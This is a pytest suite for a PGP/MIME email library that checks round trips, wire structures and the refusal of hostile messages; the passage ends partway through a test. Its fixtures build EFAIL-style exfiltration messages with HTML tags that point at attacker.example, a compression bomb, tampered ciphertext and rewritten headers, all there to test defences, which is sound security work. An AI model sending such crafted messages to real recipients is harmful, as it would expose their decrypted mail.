"""PGP/MIME messages (RFC 3156) through :mod:`securemail.pgp`, with the real gpg underneath.

The engine below has its own tests (test_gpg.py); here the unit is a whole message: what
``sign``, ``encrypt``, ``decrypt``, ``verify`` and ``read`` make of it, the exact structures
on the wire, and what every kind of bad message gives. Messages a sender or an attacker could
send are made with the gpg command line (:class:`pgp.keys.GpgCli`) and assembled by the
test, never by securemail.

Every refusal is checked for leaks with :class:`Quarantine`: the typed error, no plaintext
marker in the error (nor in its causes, its attributes, or the debug log), no ``data`` on
it, and every private GnuPG home and scratch file removed from disk.
"""

from __future__ import annotations

import dataclasses
import email.message
import email.parser
import email.policy
import logging
import re
import shutil
import tempfile
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest

from pgp.keys import (
    PASSPHRASE,
    SIGNED_DATA,
    GpgCli,
    KeySet,
    PgpKey,
    armor,
    dearmor,
    header_of,
    multipart_parts,
    part_body,
    pgp_mime_encrypted,
    pgp_mime_signed,
)
from securemail import payload, pgp
from securemail.compose import MessageBuilder
from securemail.errors import (
    EmbeddedCiphertextError,
    HeaderInjectionError,
    InputError,
    IntegrityError,
    MalformedMessageError,
    NoSecretKeyError,
    NotARecipientError,
    NotSignedError,
    PartialSignatureError,
    RecipientError,
    SignatureError,
    SignatureInvalidError,
    SignerMismatch,
    SigningKeyError,
    SizeLimitExceeded,
    WrongPasswordError,
)
from securemail.pgp import GnuPG
from securemail.policy import COMPATIBLE, DEFAULT, DigestAlgorithm
from securemail.results import DecryptResult, ProtectedMessage, SignatureStatus, VerifyResult

MARKER = "Xylophone-7731"
"""In every plaintext: it must never appear in a refusal."""
TEXT = f"Hello Bob,\n\nthe launch code is {MARKER}.\n"
SUBJECT = "Secret plans"
KiB = 1024
MiB = 1024 * KiB


# --- messages and helpers --------------------------------------------------------------------


def message(
    *,
    sender: str = "Alice <alice@example.org>",
    to: tuple[str, ...] = ("bob@example.org",),
    bcc: tuple[str, ...] = (),
    subject: str = SUBJECT,
    text: str = TEXT,
) -> EmailMessage:
    builder = MessageBuilder().from_addr(sender).to(*to).subject(subject).text(text)
    if bcc:
        builder = builder.bcc(*bcc)
    return builder.build()


def parse(data: bytes) -> EmailMessage:
    parsed = email.parser.BytesParser(policy=email.policy.default).parsebytes(data)
    assert isinstance(parsed, EmailMessage)
    return parsed


def text_of(data: bytes) -> str:
    body = parse(data).get_body(("plain",))
    assert body is not None, "no text/plain part"
    return str(body.get_content()).replace("\r\n", "\n")


def armored_payload(data: bytes) -> bytes:
    """The armored OpenPGP message of a multipart/encrypted message (its second part)."""
    version, encrypted = multipart_parts(data)
    assert part_body(version) == b"Version: 1\r\n"
    return part_body(encrypted)


def entity_of(msg: EmailMessage, *, encrypting: bool) -> bytes:
    """What securemail signs or encrypts for ``msg`` under the default policy."""
    return payload.prepare(msg, DEFAULT, encrypting=encrypting).entity


def subkey_id(key: PgpKey, gpg_bin: str) -> str:
    with GnuPG(gpg=gpg_bin) as engine:
        (info,) = engine.import_keys(key.public)
        (subkey,) = info.encryption_keys()
        return subkey.key_id


def layer_kinds(layers: tuple[DecryptResult | VerifyResult, ...]) -> list[str]:
    return [
        "decrypt" if isinstance(layer, DecryptResult) else f"verify:{layer.status}"
        for layer in layers
    ]


@dataclasses.dataclass(frozen=True)
class Quarantine:
    """Where private GnuPG homes go during a test, and what a refusal could leak through."""

    scratch: Path
    caplog: pytest.LogCaptureFixture

    def check(self, error: BaseException, secret: str = MARKER) -> None:
        texts = []
        seen: set[int] = set()
        current: BaseException | None = error
        while current is not None and id(current) not in seen:
            seen.add(id(current))
            texts += [str(current), repr(current), repr(current.args), repr(vars(current))]
            current = current.__cause__ or current.__context__
        assert secret not in "\n".join(texts), "plaintext in the error"
        assert secret not in self.caplog.text, "plaintext in the log"
        assert not hasattr(error, "data")
        # Every private home (with gpg's temporary files) and scratch file is gone.
        assert list(self.scratch.iterdir()) == []


@pytest.fixture
def quarantine(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> Iterator[Quarantine]:
    # Short, so that gpg-agent's socket path in the home stays under the 108-byte limit.
    scratch = Path(tempfile.mkdtemp(prefix="sm-q-"))
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    caplog.set_level(logging.DEBUG)  # python-gnupg logs at DEBUG: nothing secret may be there
    yield Quarantine(scratch, caplog)
    shutil.rmtree(scratch, ignore_errors=True)


@pytest.fixture(scope="module")
def gpg(gpg_bin: str, keyset: KeySet, tmp_path_factory: pytest.TempPathFactory) -> Iterator[GpgCli]:
    """The gpg command line with every test key (secret parts of the ordinary ones)."""
    tool = GpgCli(gpg_bin, tmp_path_factory.mktemp("gpg-cli") / "home")
    tool.add(keyset.alice.secret, keyset.bob.secret, keyset.carol.secret, keyset.dave.public)
    yield tool
    tool.stop()


@pytest.fixture(scope="module")
def plain() -> EmailMessage:
    """One message, built once (its Date and Message-ID stay the same)."""
    return message()


@pytest.fixture(scope="module")
def signed(keyset: KeySet, plain: EmailMessage) -> ProtectedMessage:
    return pgp.sign(plain, keys=[keyset.alice.secret])


@pytest.fixture(scope="module")
def encrypted(keyset: KeySet) -> ProtectedMessage:
    return pgp.encrypt(message(), keys=[keyset.bob.public])


# --- round trips ------------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["alice", "bob"], ids=["curve25519", "rsa3072"])
def test_encrypt_decrypt_round_trip(keyset: KeySet, who: str) -> None:
    key: PgpKey = getattr(keyset, who)
    msg = message(to=(key.email,))
    protected = pgp.encrypt(msg, keys=[key.public])
    assert protected.mail_from == "alice@example.org"
    assert protected.recipients == (key.email,)
    assert MARKER.encode() not in protected.data

    result = pgp.decrypt(protected, keys=[key.secret])
    assert result.authenticated
    assert result.content_cipher == "openpgp-aes256-mdc"
    assert result.recipient == key.fingerprint
    assert not result.signed and result.signature is None
    assert text_of(result.data) == TEXT
    assert result.message["Subject"] == SUBJECT  # "..." outside, restored from inside
    assert "Subject" in result.protected_headers
    for field in ("From", "To", "Date", "Message-ID"):
        assert result.message[field] == msg[field], field


def test_three_recipients_each_decrypt(keyset: KeySet) -> None:
    trio = (keyset.alice, keyset.bob, keyset.carol)
    msg = message(to=tuple(k.email for k in trio))
    protected = pgp.encrypt(msg, keys=[k.public for k in trio])
    for key in trio:
        result = pgp.decrypt(protected, keys=[key.secret])
        assert result.recipient == key.fingerprint
        assert text_of(result.data) == TEXT
    # The same, with recipients named by address, fingerprint and KeyInfo.
    with GnuPG() as engine:
        alice = engine.import_keys(keyset.alice.public)[0]
        for key in (keyset.bob, keyset.carol):
            engine.import_keys(key.public)
        named = pgp.encrypt(msg, [alice, keyset.bob.fingerprint, "carol@example.org"], gnupg=engine)
    for key in trio:
        assert text_of(pgp.decrypt(named, keys=[key.secret]).data) == TEXT


@pytest.mark.parametrize(
    ("who", "digest"),
    [
        ("alice", DigestAlgorithm.SHA256),
        ("alice", DigestAlgorithm.SHA512),
        ("bob", DigestAlgorithm.SHA512),
        ("carol", DigestAlgorithm.SHA384),
    ],
    ids=["ed25519-sha256", "ed25519-sha512", "rsa3072-sha512", "rsa2048-sha384"],
)
def test_sign_verify_round_trip(keyset: KeySet, who: str, digest: DigestAlgorithm) -> None:
    key: PgpKey = getattr(keyset, who)
    msg = message(sender=f"{key.label.title()} <{key.email}>")
    signed = pgp.sign(msg, keys=[key.secret], policy=DEFAULT.clone(digest=digest))
    header = header_of(signed.data)
    assert header.get_content_type() == "multipart/signed"
    assert header.get_param("protocol") == "application/pgp-signature"
    assert header.get_param("micalg") == f"pgp-{digest.value}"  # the hash asked for and used
    assert header["Subject"] == SUBJECT  # signing hides nothing

    result = pgp.verify(signed, keys=[key.public])
    assert result.status is SignatureStatus.VERIFIED, result.reason
    assert result.verified and result.error is None
    assert result.signer == key.email
    assert result.fingerprint == key.fingerprint
    assert result.digest_algorithm == digest.value
    assert result.signature_algorithm == key.algorithm
    assert result.signing_time is not None
    assert result.data is not None and text_of(result.data) == TEXT
    assert result.message is not None and result.message["Subject"] == SUBJECT
    assert result.raise_for_status() is result


def test_sign_then_encrypt_nests_signed_inside_encrypted(keyset: KeySet) -> None:
    protected = pgp.encrypt(message(), keys=[keyset.bob.public, keyset.alice.secret], sign=True)
    outer = header_of(protected.data)
    assert outer.get_content_type() == "multipart/encrypted"
    assert outer["Subject"] == "..."

    # RFC 3156 6.1: the decrypted entity is a multipart/signed, not a combined packet.
    decrypted = pgp.decrypt(protected, keys=[keyset.bob.secret])
    assert decrypted.signed and decrypted.signature is None
    inner = header_of(decrypted.data)
    assert inner.get_content_type() == "multipart/signed"
    assert inner.get_param("micalg") == "pgp-sha256"
    assert decrypted.message["Subject"] == "..."  # restored only once the signature is read

    read = pgp.read(protected, keys=[keyset.bob.secret, keyset.alice.public])
    assert layer_kinds(read.layers) == ["decrypt", "verify:verified"]
    assert read.encrypted and read.verified and read.authenticated
    (signature,) = read.signatures
    assert signature.signer == "alice@example.org"
    assert signature.fingerprint == keyset.alice.fingerprint
    assert read.message["Subject"] == SUBJECT
    assert "Subject" in signature.protected_headers
    assert text_of(read.data) == TEXT


@pytest.mark.parametrize("how", ["signer", "signed-message"])
def test_other_ways_to_sign_and_encrypt(keyset: KeySet, how: str) -> None:
    if how == "signer":
        protected = pgp.encrypt(
            message(),
            ["bob@example.org"],
            keys=[keyset.bob.public, keyset.alice.secret],
            signer="alice@example.org",
        )
    else:  # sign | encrypt: the signed entity is wrapped as it is
        signed = pgp.sign(message(), keys=[keyset.alice.secret])
        protected = pgp.encrypt(signed, keys=[keyset.bob.public])
    read = pgp.read(protected, keys=[keyset.bob.secret, keyset.alice.public])
    assert layer_kinds(read.layers) == ["decrypt", "verify:verified"]
    assert read.message["Subject"] == SUBJECT


def test_encrypt_to_self(keyset: KeySet) -> None:
    keys = [keyset.bob.public, keyset.alice.secret]
    copy = pgp.encrypt(message(), keys=keys, sign=True)
    mine = pgp.read(copy, keys=[keyset.alice.secret])  # the sent-folder copy
    assert mine.verified and text_of(mine.data) == TEXT

    without = pgp.encrypt(
        message(), keys=keys, sign=True, policy=DEFAULT.clone(encrypt_to_self=False)
    )
    assert text_of(pgp.read(without, keys=[keyset.bob.secret, keyset.alice.public]).data) == TEXT
    with pytest.raises(NoSecretKeyError):
        pgp.decrypt(without, keys=[keyset.alice.secret])
    # Without signing there is no "self": the sender's secret key is not a recipient.
    unsigned = pgp.encrypt(message(), keys=keys)
    with pytest.raises(NoSecretKeyError):
        pgp.decrypt(unsigned, keys=[keyset.alice.secret])


def test_keys_from_bytes_and_files(keyset: KeySet, tmp_path: Path) -> None:
    (tmp_path / "bob.asc").write_bytes(keyset.bob.public)
    (tmp_path / "bob.gpg").write_bytes(dearmor(keyset.bob.public))  # binary
    (tmp_path / "bob-secret.gpg").write_bytes(dearmor(keyset.bob.secret))
    (tmp_path / "alice-secret.asc").write_bytes(keyset.alice.secret)
    (tmp_path / "alice.gpg").write_bytes(dearmor(keyset.alice.public))
    for source in (
        keyset.bob.public,
        dearmor(keyset.bob.public),
        tmp_path / "bob.asc",
        str(tmp_path / "bob.gpg"),
    ):
        protected = pgp.encrypt(message(), keys=[source])
        for secret in (keyset.bob.secret, tmp_path / "bob-secret.gpg"):
            assert text_of(pgp.decrypt(protected, keys=[secret]).data) == TEXT
    signed = pgp.sign(message(), keys=[str(tmp_path / "alice-secret.asc")])
    assert pgp.verify(signed, keys=[tmp_path / "alice.gpg"]).verified


def test_private_homes_are_removed(keyset: KeySet, quarantine: Quarantine) -> None:
    protected = pgp.encrypt(message(), keys=[keyset.bob.public, keyset.alice.secret], sign=True)
    read = pgp.read(protected, keys=[keyset.bob.secret, keyset.alice.public])
    assert read.verified
    assert list(quarantine.scratch.iterdir()) == []


def test_callers_named_home_is_used_and_kept(gpg_bin: str, keyset: KeySet, tmp_path: Path) -> None:
    tool = GpgCli(gpg_bin, tmp_path / "my-gnupg")
    try:
        tool.add(keyset.alice.secret, keyset.bob.secret)
        home = tool.home

        def files() -> set[str]:
            return {str(p.relative_to(home)) for p in home.rglob("*") if not p.is_socket()}

        before = files()
        keyring = (home / "pubring.kbx").read_bytes()
        with GnuPG(home=home) as engine:
            assert not engine.private and engine.home == home.resolve()
            signed = pgp.sign(message(), gnupg=engine)  # the key for From
            assert pgp.verify(signed, gnupg=engine).verified
            protected = pgp.encrypt(message(), gnupg=engine, sign=True)  # To: bob
            read = pgp.read(protected, gnupg=engine)
            assert layer_kinds(read.layers) == ["decrypt", "verify:verified"]
        assert home.is_dir()
        assert files() == before
        assert (home / "pubring.kbx").read_bytes() == keyring
    finally:
        tool.stop()


def test_recipients_from_the_message_and_bcc_in_the_envelope_only(keyset: KeySet) -> None:
    msg = message(to=("bob@example.org",), bcc=("carol@example.org",))
    with GnuPG() as engine:
        for key in (keyset.alice, keyset.bob, keyset.carol):
            engine.import_keys(key.public)
        protected = pgp.encrypt(msg, gnupg=engine)  # To, Cc and Bcc looked up in the home
    assert protected.recipients == ("bob@example.org", "carol@example.org")
    assert b"carol@example.org" not in protected.data
    assert b"Bcc" not in protected.data
    for key in (keyset.bob, keyset.carol):  # the Bcc recipient can read it too
        result = pgp.decrypt(protected, keys=[key.secret])
        assert b"carol@example.org" not in result.data
        assert text_of(result.data) == TEXT

    signed = pgp.sign(msg, keys=[keyset.alice.secret])
    assert signed.recipients == ("bob@example.org", "carol@example.org")
    assert b"carol@example.org" not in signed.data


def test_bcc_recipient_is_not_revealed_to_the_others(gpg_bin: str, keyset: KeySet) -> None:
    """KNOWN BUG: a Bcc recipient's key ID is in the message, for every recipient to see.

    Each public-key encrypted session key packet names its recipient's key ID, which anyone
    can look up (key servers, WKD) to learn who else got the message. Bob must not be able
    to tell that Carol was a Bcc recipient: her key ID must not be in what he receives
    (gpg's --hidden-recipient for Bcc recipients writes 0000000000000000 instead, or each
    Bcc recipient gets a message of their own)."""
    msg = message(to=("bob@example.org",), bcc=("carol@example.org",))
    with GnuPG() as engine:
        for key in (keyset.alice, keyset.bob, keyset.carol):
            engine.import_keys(key.public)
        protected = pgp.encrypt(msg, gnupg=engine)
    with GnuPG() as bob:
        bob.import_keys(keyset.bob.secret)
        seen_by_bob = bob.decrypt(armored_payload(protected.data)).recipients
    bob_id, carol_id = subkey_id(keyset.bob, gpg_bin), subkey_id(keyset.carol, gpg_bin)
    assert bob_id in seen_by_bob
    assert carol_id not in seen_by_bob, f"Bob sees the Bcc recipient's key ID {carol_id}"


def test_signer_chosen_from_the_keys_given(keyset: KeySet) -> None:
    both = [keyset.alice.secret, keyset.bob.secret]
    by_from = pgp.sign(message(sender="bob@example.org"), keys=both)
    assert pgp.verify(by_from, keys=[keyset.bob.public]).fingerprint == keyset.bob.fingerprint
    by_fingerprint = pgp.sign(message(), keyset.alice.fingerprint, keys=both)
    assert pgp.verify(by_fingerprint, keys=[keyset.alice.public]).verified
    with pytest.raises(SigningKeyError) as caught:
        pgp.sign(message(sender="carol@example.org"), keys=both)
    assert caught.value.signer == "carol@example.org"


def test_read_leaves_an_unprotected_message_alone(keyset: KeySet, plain: EmailMessage) -> None:
    read = pgp.read(plain, keys=[keyset.alice.public])
    assert read.layers == () and not read.verified and not read.encrypted
    assert text_of(read.data) == TEXT


# --- the structures on the wire ----------------------------------------------------------------


def test_multipart_encrypted_structure(encrypted: ProtectedMessage) -> None:
    header = header_of(encrypted.data)
    assert header.get_content_type() == "multipart/encrypted"
    assert header.get_param("protocol") == "application/pgp-encrypted"
    assert header["MIME-Version"] == "1.0"
    assert header["From"] == "Alice <alice@example.org>"
    assert header["To"] == "bob@example.org"
    assert header["Subject"] == "..."
    assert header["Date"] and header["Message-ID"]

    version, data = multipart_parts(encrypted.data)
    assert header_of(version).get_content_type() == "application/pgp-encrypted"
    assert part_body(version) == b"Version: 1\r\n"
    assert header_of(data).get_content_type() == "application/octet-stream"
    armored = part_body(data)
    assert armored.startswith(b"-----BEGIN PGP MESSAGE-----\r\n")
    assert armored.endswith(b"-----END PGP MESSAGE-----\r\n")
    assert b"Version:" not in armored and b"Comment:" not in armored
    assert encrypted.data.isascii() and b"\n" not in encrypted.data.replace(b"\r\n", b"")


def test_multipart_signed_structure(
    signed: ProtectedMessage, plain: EmailMessage, keyset: KeySet
) -> None:
    header = header_of(signed.data)
    assert header.get_content_type() == "multipart/signed"
    assert header.get_param("protocol") == "application/pgp-signature"
    assert header.get_param("micalg") == "pgp-sha256"
    first, signature = multipart_parts(signed.data)
    assert first == entity_of(plain, encrypting=False)
    assert header_of(signature).get_content_type() == "application/pgp-signature"
    assert part_body(signature).startswith(b"-----BEGIN PGP SIGNATURE-----\r\n")
    # The first part is checked by gpg over exactly the bytes that were sent.
    with GnuPG() as engine:
        engine.import_keys(keyset.alice.public)
        assert engine.verify_detached(first, part_body(signature)).good


AWKWARD_TEXT = (
    "From the desk of the CFO\n"
    "trailing spaces   \n"
    "trailing tab\t\n"
    "Grüße, 12 € more\n"
    ">From a quoted line\n"
    "-----BEGIN PGP SIGNED MESSAGE----- (just text)\n"
    "- a dash line\n"
    f"{MARKER}\n"
)


def test_signed_part_is_canonical_and_exactly_what_was_signed(keyset: KeySet) -> None:
    msg = (
        MessageBuilder()
        .from_addr("alice@example.org")
        .to("bob@example.org")
        .subject("Grüße")
        .text(AWKWARD_TEXT)
        .attach(bytes(range(256)) * 4, filename="blob.bin")
        .build()
    )
    signed = pgp.sign(msg, keys=[keyset.alice.secret])
    first, signature = multipart_parts(signed.data)
    assert first == entity_of(msg, encrypting=False)
    # 7-bit, CRLF only, nothing a mail transfer agent or mail store would change.
    assert signed.data.isascii()
    assert b"\n" not in signed.data.replace(b"\r\n", b"") and b"\r" not in signed.data.replace(
        b"\r\n", b""
    )
    for line in first.split(b"\r\n"):
        assert not line.endswith((b" ", b"\t")), line
        assert not line.startswith(b"From "), line
        assert len(line) <= 998
    assert b"quoted-printable" in first.lower()
    # ... and the text comes back exactly.
    assert text_of(first) == AWKWARD_TEXT
    with GnuPG() as engine:
        engine.import_keys(keyset.alice.public)
        assert engine.verify_detached(first, part_body(signature)).good
        assert not engine.verify_detached(first.replace(b"\r\n", b"\n"), part_body(signature)).good
    result = pgp.verify(signed, keys=[keyset.alice.public])
    assert result.verified, result.reason
    assert result.message is not None and result.message["Subject"] == "Grüße"
    assert text_of(result.data or b"") == AWKWARD_TEXT


def test_signature_survives_a_change_of_line_endings(
    signed: ProtectedMessage, keyset: KeySet
) -> None:
    unix = signed.data.replace(b"\r\n", b"\n")
    assert pgp.verify(unix, keys=[keyset.alice.public]).verified


def test_header_protection_on_a_signed_message(signed: ProtectedMessage, keyset: KeySet) -> None:
    # On the way, someone rewrites the Subject and adds a Reply-To outside the signed part.
    rewritten = signed.data.replace(
        f"Subject: {SUBJECT}\r\n".encode(),
        b"Subject: Please wire the money\r\nReply-To: mallory@example.net\r\n",
        1,
    )
    assert rewritten != signed.data
    result = pgp.verify(rewritten, keys=[keyset.alice.public])
    assert result.verified
    assert result.message is not None
    assert result.message["Subject"] == SUBJECT  # the protected copy wins
    assert result.message["Reply-To"] is None  # unprotected additions are dropped
    assert set(result.protected_headers) >= {"From", "To", "Subject", "Date", "Message-ID"}


def test_header_protection_can_be_turned_off(keyset: KeySet) -> None:
    visible = pgp.encrypt(
        message(), keys=[keyset.bob.public], policy=DEFAULT.clone(header_protection=False)
    )
    assert header_of(visible.data)["Subject"] == SUBJECT
    result = pgp.decrypt(visible, keys=[keyset.bob.secret])
    assert result.protected_headers == ()
    assert result.message["Subject"] == SUBJECT


def test_legacy_display_is_written_and_removed(keyset: KeySet) -> None:
    """COMPATIBLE repeats the Subject in the body for clients without header protection
    (RFC 9788 legacy display); securemail's reader takes it out again."""
    protected = pgp.encrypt(message(), keys=[keyset.bob.public], policy=COMPATIBLE)
    with GnuPG() as engine:
        engine.import_keys(keyset.bob.secret)
        entity = engine.decrypt(armored_payload(protected.data)).data
    assert f"\r\n\r\nSubject: {SUBJECT}\r\n\r\nHello Bob,".encode() in entity
    result = pgp.decrypt(protected, keys=[keyset.bob.secret], policy=COMPATIBLE)
    assert result.message["Subject"] == SUBJECT
    assert text_of(result.data) == TEXT


# --- decryption that releases nothing ------------------------------------------------------------


def _entity(text: str = TEXT) -> bytes:
    return f"Content-Type: text/plain; charset=us-ascii\n\n{text}".replace("\n", "\r\n").encode()


def inline(armored: bytes, *, before: bytes = b"", after: bytes = b"") -> bytes:
    """An inline-PGP message: a text/plain body holding an armored block."""
    return (
        b"From: Alice <alice@example.org>\r\nTo: bob@example.org\r\nSubject: inline\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n"
        + before
        + armored.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
        + after
    )


def test_message_without_mdc_is_refused(
    gpg: GpgCli, keyset: KeySet, quarantine: Quarantine
) -> None:
    # gpg 2.2 ignores --disable-mdc; --rfc2440 still writes a packet without MDC.
    made = gpg.run(
        "--rfc2440", "--armor", "-r", keyset.bob.fingerprint, "--encrypt", stdin=_entity()
    ).stdout
    # gpg itself writes the plaintext out before it refuses the message:
    direct = gpg.run("--decrypt", stdin=made, check=False)
    assert direct.returncode != 0 and MARKER.encode() in direct.stdout

    for data in (pgp_mime_encrypted(made), inline(made)):
        for operation in (pgp.decrypt, pgp.read):
            with pytest.raises(IntegrityError, match="not integrity-protected") as caught:
                operation(data, keys=[keyset.bob.secret])
            quarantine.check(caught.value)


def flip_in_ciphertext(data: bytes) -> bytes:
    """``data`` (a multipart/encrypted message) with one bit of its ciphertext flipped, in
    the middle of the encrypted data packet, the armor redone so that its CRC is right."""
    armored = armored_payload(data)
    binary = bytearray(dearmor(armored))
    binary[len(binary) // 2] ^= 0x01
    rearmored = armor(bytes(binary))
    assert data.count(armored) == 1 and rearmored != armored
    return data.replace(armored, rearmored)


@pytest.mark.parametrize("who", ["alice", "bob"], ids=["curve25519", "rsa3072"])
def test_one_flipped_bit_is_refused(
    gpg: GpgCli, keyset: KeySet, quarantine: Quarantine, who: str
) -> None:
    key: PgpKey = getattr(keyset, who)
    # The marker comes first, the flipped bit well after it.
    protected = pgp.encrypt(message(text=TEXT + "x" * 4000 + "\n"), keys=[key.public])
    damaged = flip_in_ciphertext(protected.data)
    direct = gpg.run("--decrypt", stdin=armored_payload(damaged), check=False)
    assert MARKER.encode() in direct.stdout  # gpg writes it, then says BADMDC
    assert "[GNUPG:] BADMDC" in direct.stderr.decode()

    for operation in (pgp.decrypt, pgp.read):
        with pytest.raises(IntegrityError, match="modified") as caught:
            operation(damaged, keys=[key.secret])
        quarantine.check(caught.value)
    assert text_of(pgp.decrypt(protected, keys=[key.secret]).data).startswith(TEXT)


def test_wrong_key(
    gpg_bin: str, keyset: KeySet, encrypted: ProtectedMessage, quarantine: Quarantine
) -> None:
    for keys in ([keyset.carol.secret], [keyset.bob.public]):  # another key; no secret part
        with pytest.raises(NoSecretKeyError) as caught:
            pgp.decrypt(encrypted, keys=keys)
        assert isinstance(caught.value, NotARecipientError)
        assert caught.value.key_ids == (subkey_id(keyset.bob, gpg_bin),)
        quarantine.check(caught.value)
    with pytest.raises(NoSecretKeyError) as caught:
        pgp.read(encrypted, keys=[keyset.carol.secret])
    quarantine.check(caught.value)


@pytest.mark.parametrize(
    ("bad", "reason"),
    [
        ("expired", r"expired on 2020-12-3\d"),
        ("revoked", "is revoked"),
        ("sign_only", "no encryption-capable"),
    ],
)
def test_unusable_recipient_stops_the_whole_message(
    keyset: KeySet, quarantine: Quarantine, bad: str, reason: str
) -> None:
    key: PgpKey = getattr(keyset, bad)
    trio = [keyset.alice.public, key.public, keyset.carol.public]
    msg = message(to=("alice@example.org", key.email, "carol@example.org"))
    attempts = [
        (key.email, lambda: pgp.encrypt(msg, keys=trio)),  # every key given is a recipient
        (key.email, lambda: pgp.encrypt(msg, ["alice@example.org", key.email], keys=trio)),
        (key.fingerprint, lambda: pgp.encrypt(msg, [key.fingerprint], keys=trio)),
    ]
    for name, attempt in attempts:
        with pytest.raises(RecipientError) as caught:
            attempt()
        assert caught.value.recipient == name
        assert re.search(reason, caught.value.reason), caught.value.reason
        assert str(caught.value).startswith(f"cannot encrypt to {name}: ")
        assert "INV_RECP" not in str(caught.value)
        quarantine.check(caught.value)


def test_compression_bomb(gpg: GpgCli, keyset: KeySet, quarantine: Quarantine) -> None:
    entity = b"Content-Type: application/octet-stream\r\n\r\n" + bytes(8 * MiB)
    bomb = gpg.run(
        "--compress-algo", "bzip2", "-z", "9", "--armor", "-r", keyset.alice.fingerprint,
        "--encrypt", stdin=entity,
    ).stdout  # fmt: skip
    assert len(bomb) < 2 * KiB  # 8 MiB inside
    bomb_message = pgp_mime_encrypted(bomb)
    small = DEFAULT.clone(max_message_size=256 * KiB)
    for operation in (pgp.decrypt, pgp.read):
        with pytest.raises(SizeLimitExceeded) as caught:
            operation(bomb_message, keys=[keyset.alice.secret], policy=small)
        assert caught.value.limit == 256 * KiB
        quarantine.check(caught.value)
    # The policy's cap also holds for an engine of the caller's (whose own cap is larger).
    with GnuPG(max_output=64 * MiB) as engine:
        engine.import_keys(keyset.alice.secret)
        with pytest.raises(SizeLimitExceeded):
            pgp.decrypt(bomb_message, gnupg=engine, policy=small)
    big_enough = DEFAULT.clone(max_message_size=9 * MiB)
    opened = pgp.decrypt(bomb_message, keys=[keyset.alice.secret], policy=big_enough)
    assert len(opened.data) > 8 * MiB


def test_message_larger_than_the_cap_is_refused_before_gpg(keyset: KeySet) -> None:
    encrypted = pgp.encrypt(message(), keys=[keyset.bob.public])
    with pytest.raises(SizeLimitExceeded) as caught:
        pgp.decrypt(encrypted, keys=[keyset.bob.secret], policy=DEFAULT.clone(max_message_size=100))
    assert caught.value.what == "message"


def _captured(encrypted: ProtectedMessage) -> bytes:
    """EFAIL direct exfiltration: the captured ciphertext between attacker-written parts."""
    return (
        b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: Re: plans\r\n"
        b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="W"\r\n\r\n'
        b'--W\r\nContent-Type: text/html\r\n\r\n<img src="https://attacker.example/?\r\n'
        b"--W\r\n" + encrypted.data + b"\r\n"
        b'--W\r\nContent-Type: text/html\r\n\r\n">\r\n--W--\r\n'
    )


def _alternative(armored: bytes) -> bytes:
    return (
        b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: Re: plans\r\n"
        b'MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary="A"\r\n\r\n'
        b"--A\r\nContent-Type: text/plain\r\n\r\n" + armored + b"\r\n"
        b"--A\r\nContent-Type: text/html\r\n\r\n<p>see the text part</p>\r\n--A--\r\n"
    )


@pytest.mark.parametrize("shape", ["mixed", "inline-with-text-around", "alternative", "two-blocks"])
def test_embedded_ciphertext_is_refused(
    keyset: KeySet, encrypted: ProtectedMessage, quarantine: Quarantine, shape: str
) -> None:
    armored = armored_payload(encrypted.data)
    data = {
        "mixed": lambda: _captured(encrypted),
        "inline-with-text-around": lambda: inline(
            armored, before=b"<a href='https://attacker.example/?\r\n", after=b"'>\r\n"
        ),
        "alternative": lambda: _alternative(armored),
        "two-blocks": lambda: inline(armored + armored),
    }[shape]()
    for operation in (pgp.decrypt, pgp.read):
        with pytest.raises(EmbeddedCiphertextError) as caught:
            operation(data, keys=[keyset.bob.secret])
        quarantine.check(caught.value)


def _mixed(*parts: bytes) -> bytes:
    return (
        b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: ...\r\n"
        b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="M"\r\n\r\n'
        + b"".join(b"--M\r\n" + part + b"\r\n" for part in parts)
        + b"--M--\r\n"
    )


EMPTY_TEXT = b"Content-Type: text/plain; charset=us-ascii\r\n\r\n"
MANGLED = {
    "empty-text-first": (EMPTY_TEXT,),
    "no-text": (),
}
MANGLED_WITH_ADDITIONS = {
    "text-before": ((b"Content-Type: text/plain\r\n\r\n<img src='https://attacker.example/?",), ()),
    "html-before": ((b"Content-Type: text/html\r\n\r\n",), ()),
    "html-after": ((EMPTY_TEXT,), (b"Content-Type: text/html\r\n\r\n'>",)),
}


@pytest.mark.parametrize("before", MANGLED.values(), ids=MANGLED.keys())
def test_pgp_mime_rewritten_as_multipart_mixed_decrypts(
    keyset: KeySet, encrypted: ProtectedMessage, before: tuple[bytes, ...]
) -> None:
    """Exchange turns multipart/encrypted into multipart/mixed (an empty text part, then
    the two PGP/MIME parts): with nothing but empty text around them, it still decrypts."""
    version, data = multipart_parts(encrypted.data)
    mangled = _mixed(*before, version, data)
    assert text_of(pgp.decrypt(mangled, keys=[keyset.bob.secret]).data) == TEXT
    assert pgp.read(mangled, keys=[keyset.bob.secret]).encrypted


@pytest.mark.parametrize(
    ("before", "after"), MANGLED_WITH_ADDITIONS.values(), ids=MANGLED_WITH_ADDITIONS.keys()
)
def test_pgp_mime_rewritten_with_other_parts_is_refused(
    keyset: KeySet,
    encrypted: ProtectedMessage,
    quarantine: Quarantine,
    before: tuple[bytes, ...],
    after: tuple[bytes, ...],
) -> None:
    version, data = multipart_parts(encrypted.data)
    added = _mixed(*before, version, data, *after)
    for operation in (pgp.decrypt, pgp.read):
        with pytest.raises(EmbeddedCiphertextError) as caught:
            operation(added, keys=[keyset.bob.secret])
        quarantine.check(caught.value)


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ((b"Version: 1\r\n", b"Version: 2\r\n"), "Version"),
        ((b"application/octet-stream", b"text/plain"), "octet-stream"),
        (
            (b"application/pgp-encrypted\r\nContent-Description", b"text/plain\r\nX"),
            "pgp-encrypted",
        ),
    ],
    ids=["version-2", "second-part-not-octet-stream", "first-part-not-pgp-encrypted"],
)
def test_malformed_multipart_encrypted(
